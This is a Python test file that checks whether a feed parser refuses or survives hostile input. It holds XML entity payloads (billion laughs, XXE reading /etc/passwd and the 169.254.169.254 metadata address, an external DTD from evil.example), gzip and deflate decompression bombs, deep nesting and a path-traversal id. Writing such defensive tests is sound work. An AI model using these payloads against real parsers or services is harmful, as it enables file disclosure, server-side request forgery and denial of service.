"""Hostile bytes: bombs, endless and odd bodies, and entries no one would write. What is good among them survives.

Time is processor time of this thread; memory is capped in a process of its own where it is the point.
"""

# ruff: noqa: E501, PT017, SIM117 (documents are not wrapped; a refusal, where there is one, has to say why)

from __future__ import annotations

import gzip
import json
import subprocess
import sys
import textwrap
import time
import zlib
from datetime import UTC, datetime

import pytest

from services.domain.errors import BroadsheetError, UpstreamRejected, UpstreamUnavailable
from services.domain.feeds import DocumentInfo, UpstreamUrls
from services.domain.papers import ParsedFeed
from services.pipeline.opml import read_opml
from services.upstreams.kinds import for_kind
from tests.attacks.strings import STRINGS
from tests.attacks.wires import answer, world
from tests.factories import parse_query
from tests.fuzz.targets import check_feed

NOW = datetime(2026, 11, 24, 9, tzinfo=UTC)
XML_KINDS = ("arxiv_api", "arxiv_rss", "arxiv_oai", "rss")
JSON_KINDS = ("hf_papers", "biorxiv", "records", "rss")


def parse(body: bytes, kind: str = "rss", content_type: str = "") -> ParsedFeed:
    about = DocumentInfo(feed="f", kind=kind, url="https://feeds.example/x", content_type=content_type, fetched_at=NOW)
    parsed = for_kind(kind).parse(body, about)
    check_feed(parsed)
    return parsed


def rss(*items: str, prolog: str = "") -> bytes:
    return f'<?xml version="1.0"?>{prolog}<rss version="2.0"><channel><title>T</title>{"".join(items)}</channel></rss>'.encode(
        "utf-8", "surrogatepass"
    )


def entry(number: object, title: str = "Lanterns", extra: str = "") -> str:
    return f"<item><title>{title}</title><link>https://blog.example/{number}</link><guid>g{number}</guid>{extra}</item>"


LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
DOCTYPES = {
    "a billion laughs": f'<!DOCTYPE r [<!ENTITY a0 "ha">{LAUGHS}]>',
    "quadratic blow-up": f'<!DOCTYPE r [<!ENTITY a9 "{"x" * 50_000}">]>',
    "a local file": '<!DOCTYPE r [<!ENTITY a9 SYSTEM "file:///etc/passwd">]>',
    "an address inside": '<!DOCTYPE r [<!ENTITY a9 SYSTEM "http://169.254.169.254/">]>',
    "parameter entities": '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/e.dtd"> %p;]>',
}


@pytest.mark.parametrize("kind", XML_KINDS)
@pytest.mark.parametrize("what", DOCTYPES)
def test_entities_are_refused_unread(kind: str, what: str) -> None:
    started = time.thread_time()
    with pytest.raises(BroadsheetError, match="entities"):
        parse(rss(entry(1, "&a9;"), prolog=DOCTYPES[what]), kind)
    assert time.thread_time() - started < 1


@pytest.mark.parametrize("kind", sorted({*XML_KINDS, *JSON_KINDS, "listing"}))
@pytest.mark.parametrize(
    "body",
    [
        b"<a>" * 100_000,
        b"[" * 200_000,
        b'{"a":' * 100_000,
        b'[{"paper":' * 50_000,
        b"<rss><channel>" + b"<item>" * 50_000,
        b"",
        b"\x00" * 10_000,
        b"\xff" * 10_000,
        b"\x1f\x8b\x08",
        b'{"a": ' + b"9" * 10_000 + b"}",
        b"<" * 100_000,
        b"&" * 100_000,
    ],
    ids=["xml", "arrays", "objects", "papers", "items", "nothing", "NULs", "FFs", "gzip", "a number", "<", "&"],
)
def test_depth_and_noise_are_refused_or_empty_in_time(kind: str, body: bytes) -> None:
    started = time.thread_time()
    try:
        assert not [paper for paper in parse(body, kind).papers if not paper.title]
    except BroadsheetError as error:
        assert str(error)
    assert time.thread_time() - started < 4


BOMB = zlib.compressobj(9, zlib.DEFLATED, 31)
PACKED = BOMB.compress(bytes(40_000_000)) + BOMB.flush()


@pytest.mark.parametrize(
    ("encoding", "body", "words"),
    [
        ("gzip", PACKED, "larger than 1,000,000 bytes once unpacked"),
        ("deflate", zlib.compress(bytes(40_000_000)), "larger than 1,000,000 bytes once unpacked"),
        ("br", b"\x0b\x02\x80hello\x03", "encoded as 'br'; we asked for gzip or deflate"),
        ("zstd", b"\x28\xb5\x2f\xfd\x04\x00", "encoded as 'zstd'; we asked for gzip or deflate"),
        ("compress", b"x", "encoded as 'compress'"),
        ("gzip, gzip", gzip.compress(gzip.compress(b"x")), "encoded as 'gzip, gzip'"),
        ("gzip", b"not gzip at all", "is said to be gzip and is not"),
        ("gzip", gzip.compress(b"") * 500, "too many members"),
        ("", bytes(3_000_000), "3,000,000 bytes, more than 2,000,000"),
    ],
    ids=["gzip bomb", "deflate bomb", "brotli", "zstd", "compress", "twice", "a lie", "many members", "long"],
)
def test_packed_bodies_are_refused_with_the_reason(encoding: str, body: bytes, words: str) -> None:
    head = {"Content_Encoding": encoding} if encoding else {}
    with (
        world({"x.example/": answer(200, body, **head)}, max_body_bytes=1_000_000, max_wire_bytes=2_000_000) as (
            http,
            _,
        ),
        pytest.raises(UpstreamRejected, match=words),
    ):
        http.get("http://x.example/")


def test_half_a_packed_body_is_not_taken_for_a_whole_one() -> None:
    half = gzip.compress(b"a whole document " * 100)[:-9]
    with world({"x.example/": answer(200, half, Content_Encoding="gzip")}) as (http, _):
        with pytest.raises(UpstreamUnavailable, match="ends too early"):
            http.get("http://x.example/")


@pytest.mark.parametrize(
    "charset", ["utf-8", "us-ascii", "utf-16", "koi8-r", "shift_jis", "no-such-charset", "utf-7", "\x00"]
)
def test_a_wrong_charset_breaks_nothing(charset: str) -> None:
    for body in (
        rss(entry(1, "Größe")),
        "<rss><channel><item><title>Größe</title></item></channel></rss>".encode("latin-1"),
    ):
        try:
            parsed = parse(body, content_type=f"application/rss+xml; charset={charset}")
        except BroadsheetError as error:
            assert str(error)
        else:
            assert len(parsed.papers) + len(parsed.rejected) <= 1


@pytest.mark.parametrize("name", [name for name in STRINGS if name not in {"nul", "surrogate", "ansi", "breaks"}])
def test_good_entries_survive_beside_a_hostile_one(name: str) -> None:
    title = STRINGS[name].replace("&", "&amp;").replace("<", "&lt;")
    parsed = parse(rss(entry(1, "First light"), entry(2, title), entry(3, "Last light")))
    assert {"First light", "Last light"} <= {paper.title for paper in parsed.papers}
    assert parsed.seen == 3


ODD = (
    "0000-00-00T00:00:00Z",
    "99999-01-01T00:00:00Z",
    "-0001-01-01",
    "2026-02-30T25:61:61Z",
    "now",
    "1e400",
    "9" * 5_000,
)


@pytest.mark.parametrize("date", ODD, ids=lambda text: text[:24])
def test_impossible_dates_cost_the_date_and_not_the_entry(date: str) -> None:
    parsed = parse(rss(entry(1, extra=f"<pubDate>{date}</pubDate>"), entry(2)))
    assert len(parsed.papers) == 2
    day = [{"paper": {"id": f"2611.9000{n}", "title": "L", "publishedAt": date}, "publishedAt": date} for n in (1, 2)]
    assert parse(json.dumps(day).encode(), "hf_papers").seen == 2


def test_odd_json_entries_are_named_and_the_good_one_is_kept() -> None:
    good = {"paper": {"id": "2611.90001", "title": "Lanterns", "summary": "s"}, "title": "Lanterns"}
    bad: list[object] = [
        None,
        7,
        "text",
        [],
        {},
        {"paper": None},
        {"paper": {"id": "2611.90002", "title": None}},
        {"paper": {"id": {}, "title": []}},
        {"paper": {"id": "../../etc/passwd", "title": "x"}},
        {"paper": {"id": "\ud800", "title": "\ud800"}},
    ]
    parsed = parse(json.dumps([*bad, good, good]).encode(), "hf_papers")
    assert parsed.seen == len(bad) + 2
    assert {paper.title for paper in parsed.papers} == {"Lanterns"}
    assert len(parsed.rejected) >= len(bad)
    assert all(refused.entry and refused.position for refused in parsed.rejected)


@pytest.mark.parametrize("kind", ["rss", "hf_papers", "arxiv_api"])
def test_two_entries_of_one_id_are_both_accounted_for(kind: str) -> None:
    if kind == "rss":
        body = rss(entry(1, "First"), entry(1, "Second"), entry(2, "Third"))
    elif kind == "hf_papers":
        body = json.dumps(
            [{"paper": {"id": f"2611.9000{n}", "title": t}} for n, t in ((1, "First"), (1, "Second"), (2, "Third"))]
        ).encode()
    else:
        entries = "".join(
            f"<entry><id>http://arxiv.org/abs/2611.9000{n}v1</id><title>{t}</title><summary>s</summary><published>2026-11-24T00:00:00Z</published></entry>"
            for n, t in ((1, "First"), (1, "Second"), (2, "Third"))
        )
        body = f'<feed xmlns="http://www.w3.org/2005/Atom"><title>q</title>{entries}</feed>'.encode()
    parsed = parse(body, kind)
    assert parsed.seen == 3 == len(parsed.papers) + len(parsed.rejected)
    assert {paper.title for paper in parsed.papers} >= {"Third"}


RECURSIVE = {
    "outlines": b"<opml><body>" + b'<outline text="a">' * 20_000,
    "outlines, whole": b"<opml><body>" + b'<outline text="a">' * 5_000 + b"</outline>" * 5_000 + b"</body></opml>",
    "a group of groups": b"<opml><body>" + b'<outline text="a"><outline xmlUrl="https://a.example/"/>' * 3_000,
}


@pytest.mark.parametrize("what", RECURSIVE)
def test_lists_of_feeds_nested_without_end_are_refused_or_read(what: str) -> None:
    started = time.thread_time()
    try:
        found = read_opml(RECURSIVE[what], UpstreamUrls())
    except BroadsheetError as error:
        assert str(error)
    else:
        assert found is not None
    assert time.thread_time() - started < 3


@pytest.mark.parametrize(
    "text",
    ["(" * 3_000 + "a" + ")" * 3_000, "NOT " * 3_000 + "a", "a OR " * 5_000 + "a", "-" * 5_000 + "a", '"' * 4_001],
)
def test_queries_nested_without_end_are_refused_or_read(text: str) -> None:
    started = time.thread_time()
    try:
        parse_query(text)
    except BroadsheetError as error:
        assert str(error)
    assert time.thread_time() - started < 3


def test_a_megabyte_of_title_is_cut_and_its_neighbour_whole() -> None:
    parsed = parse(rss(entry(1, "lantern " * 130_000), entry(2, "Short")))
    assert max(len(paper.title) for paper in parsed.papers) <= 20_000
    assert "Short" in {paper.title for paper in parsed.papers}


@pytest.mark.parametrize(
    ("kind", "piece"),
    [
        ("rss", "<item><title>a</title><link>https://b.example/1</link></item>"),
        ("records", '{"id": "2611.90001", "title": "a", "abs": "https://arxiv.org/abs/2611.90001"}'),
    ],
)
def test_a_million_entries_are_bounded_in_memory_and_time(kind: str, piece: str) -> None:
    code = f"""
        import resource
        resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))
        resource.setrlimit(resource.RLIMIT_CPU, (60, 60))
        from datetime import UTC, datetime
        from services.domain.errors import BroadsheetError
        from services.domain.feeds import DocumentInfo
        from services.upstreams.kinds import for_kind
        piece = {piece!r}
        body = ("<rss><channel>" + piece * 1_000_000 + "</channel></rss>" if {kind!r} == "rss" else (piece + "\\n") * 30_000).encode()
        about = DocumentInfo(feed="f", kind={kind!r}, fetched_at=datetime(2026, 11, 24, tzinfo=UTC))
        try:
            print("read", for_kind({kind!r}).parse(body, about).seen)
        except BroadsheetError as error:
            print("refused", error)
    """
    done = subprocess.run([sys.executable, "-c", textwrap.dedent(code)], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr[-500:]
    assert done.stdout.startswith(("refused the document has", "read 30000")), done.stdout
